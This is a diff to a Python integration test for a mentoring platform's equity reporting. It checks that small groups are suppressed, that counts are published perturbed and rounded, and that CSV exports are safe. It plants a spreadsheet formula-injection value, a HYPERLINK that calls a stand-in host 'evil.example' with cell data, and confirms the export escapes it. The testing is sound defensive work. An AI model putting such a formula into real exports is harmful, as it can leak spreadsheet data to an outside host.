@@ -12,6 +12,7 @@ from datetime import UTC, datetime
 import pytest
 from sqlalchemy import text
 
+from services.insights.domain import stats
 from tests.insights.conftest import (
     ADMIN,
     COORDINATOR,
@@ -26,15 +27,23 @@ from tests.profiles.conftest import token
 pytestmark = pytest.mark.kafka
 JOINED = datetime(2027, 3, 1, tzinfo=UTC)
 MATCHED = datetime(2027, 3, 11, tzinfo=UTC)
-# unit -> (participants, matched)
-PLANTED = {"Retail": (6, 5), "Finance": (6, 3), "Legal": (2, 2)}
+# unit -> (participants, matched). Retail and Finance clear every keyed threshold
+# (k to k + 4); Legal and Tax never do; the last unit is a spreadsheet formula.
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+PLANTED = {"Retail": (14, 12), "Finance": (12, 9), "Legal": (2, 2), "Tax": (3, 3)}
+PLANTED[FORMULA] = (1, 0)
+
+
+def near(value: int) -> set[int]:
+    """What a count may be published as: perturbed by at most 2, rounded to 5."""
+    return {5 * ((2 * (value + d) + 5) // 10) for d in range(-2, 3)}
 
 
 def planted() -> list:
     messages = []
     for unit, (participants, matched) in PLANTED.items():
         for i in range(participants):
-            pid = f"{unit.lower()}-{i}"
+            pid = f"{unit.lower()}-{i}" if unit != FORMULA else f"formula-{i}"
             messages += [
                 event(
                     "profiles",
@@ -106,41 +115,47 @@ async def test_equity_by_business_unit_matches_the_hand_computed_numbers(
     ).json()
     groups = {g["group"]: g for g in report["groups"]}
     assert groups["Legal"] == {"group": "Legal", "suppressed": True}
+    assert groups["Tax"] == {"group": "Tax", "suppressed": True}
+    assert report["suppressed_groups"] == 3  # Legal, Tax and the formula unit
     retail, finance = groups["Retail"], groups["Finance"]
-    assert (retail["participants"], retail["matched"]) == (6, 5)
-    assert retail["match_rate"] == pytest.approx(5 / 6)
-    assert (finance["participants"], finance["matched"]) == (6, 3)
-    assert finance["match_rate"] == pytest.approx(0.5)
-    assert finance["match_rate_impact"] == pytest.approx(0.6)
-    assert finance["match_rate_flagged"] is True
+    assert retail["participants"] in near(14) and retail["matched"] in near(12)
+    assert finance["participants"] in near(12) and finance["matched"] in near(9)
+    assert retail["match_rate"] == min(retail["matched"] / retail["participants"], 1)
+    best = max(retail["match_rate"], finance["match_rate"])
+    assert finance["match_rate_impact"] == pytest.approx(finance["match_rate"] / best)
     assert retail["median_days_to_match"] == 10
     assert retail["mean_match_score"] == pytest.approx(0.6)
-    # 14 - 6 - 6 would reveal Legal's 2: the total is withheld.
-    assert report["total"] == {"suppressed": True}
+    # Counts are published perturbed and rounded, the total too: no exact figure
+    # is left to subtract the shown groups from.
+    assert report["total"]["participants"] in near(32)
 
     exported = await client.get("/equity.csv?dimension=business_unit", headers=SPONSOR)
     assert exported.status_code == 200
     assert exported.headers["content-type"].startswith("text/csv")
     rows = {r["group"]: r for r in csv.DictReader(io.StringIO(exported.text))}
     assert rows["Legal"]["suppressed"] == "True" and rows["Legal"]["participants"] == ""
-    assert rows["Finance"]["matched"] == "3"
-    assert float(rows["Finance"]["match_rate_impact"]) == pytest.approx(0.6)
-    assert rows["Retail"]["participants"] == "6" and rows["Retail"]["matched"] == "5"
-    assert rows["total"]["suppressed"] == "True" and rows["total"]["matched"] == ""
+    assert rows["Finance"]["matched"] == str(finance["matched"])
+    assert rows["Retail"]["participants"] == str(retail["participants"])
+    assert rows["total"]["participants"] == str(report["total"]["participants"])
+    # The imported unit named like a formula comes back as text a spreadsheet shows.
+    assert "'" + FORMULA in rows
+    assert not any(line.startswith("=") for line in exported.text.splitlines())
 
     demographics = (
         await client.get("/equity?dimension=demographics.gender", headers=ADMIN)
     ).json()
-    gender = {g["group"]: g for g in demographics["groups"]}
-    assert set(gender) == {"woman", "man"}  # only the six who consented
-    assert gender["woman"]["participants"] == 5
-    assert gender["man"] == {"group": "man", "suppressed": True}
+    # Five women and one man consented: the man's group is withheld, so the women's
+    # is too (one withheld group would be the total minus the other), and neither
+    # is named nor counted.
+    assert demographics["groups"] == []
+    assert demographics["suppressed_groups"] is None
+    assert "woman" not in str(demographics) and "man" not in str(demographics)
 
     cohort = (
         await client.get("/equity?dimension=level_band&cohort_id=c1", headers=ADMIN)
     ).json()
-    assert cohort["groups"][0]["participants"] == 14  # all at level 5: one band
-    assert cohort["total"]["matched"] == 10
+    assert cohort["groups"][0]["participants"] in near(32)  # all at level 5
+    assert cohort["total"]["matched"] in near(26)
 
     mentee = token(TENANT, "mentee", sub="retail-0")
     for path in ("/equity", "/equity.csv", "/patterns", "/operations"):
@@ -162,7 +177,7 @@ async def test_patterns_and_operations_are_served_to_overseers(
             {
                 "person_id": "mentor-1",
                 "strengths": [],
-                "max_mentees": 20,
+                "max_mentees": 52,
                 "hours_per_month": 10,
             },
         )
@@ -171,22 +186,15 @@ async def test_patterns_and_operations_are_served_to_overseers(
     await until_facts(app, len(messages))
 
     patterns = (await client.get("/patterns", headers=COORDINATOR)).json()
-    assert patterns["pairings"] == 10
+    assert patterns["pairings"] == 26
+    none_of_26 = [0.0, pytest.approx(stats.wilson_interval(0, 26)[1], abs=1e-4)]
     direction = patterns["characteristics"]["direction"]
     assert direction == [
         {
             "value": "standard",
-            "pairings": 10,
-            "progressed": {
-                "count": 0,
-                "rate": 0.0,
-                "interval": [0.0, pytest.approx(0.2775, abs=1e-4)],
-            },
-            "completed": {
-                "count": 0,
-                "rate": 0.0,
-                "interval": [0.0, pytest.approx(0.2775, abs=1e-4)],
-            },
+            "pairings": 26,
+            "progressed": {"count": 0, "rate": 0.0, "interval": none_of_26},
+            "completed": {"count": 0, "rate": 0.0, "interval": none_of_26},
         }
     ]
     assert {w["criterion"] for w in patterns["suggested_weights"]} == {
@@ -195,8 +203,8 @@ async def test_patterns_and_operations_are_served_to_overseers(
     }
 
     operations = (await client.get("/operations", headers=SPONSOR)).json()
-    assert operations["participation"]["participants"] == 14
-    assert operations["mentor_utilisation"]["active_pairings"] == 10
+    assert operations["participation"]["participants"] == 32
+    assert operations["mentor_utilisation"]["active_pairings"] == 26
     assert operations["mentor_utilisation"]["rate"] == pytest.approx(0.5)
     assert operations["waiting_list"]["length"] == 0
 
@@ -221,6 +229,8 @@ async def test_patterns_and_operations_are_served_to_overseers(
         await asyncio.sleep(0.1)
     assert mentions == 0  # neither their row nor the mentor's link to them is left
     report = (await client.get("/equity", headers=COORDINATOR)).json()
-    assert {g["group"]: g for g in report["groups"]}["Retail"]["participants"] == 5
+    assert {g["group"]: g for g in report["groups"]}["Retail"]["participants"] in near(
+        13
+    )
     utilisation = (await client.get("/operations", headers=ADMIN)).json()
-    assert utilisation["mentor_utilisation"]["active_pairings"] == 10  # anonymised
+    assert utilisation["mentor_utilisation"]["active_pairings"] == 26  # anonymised
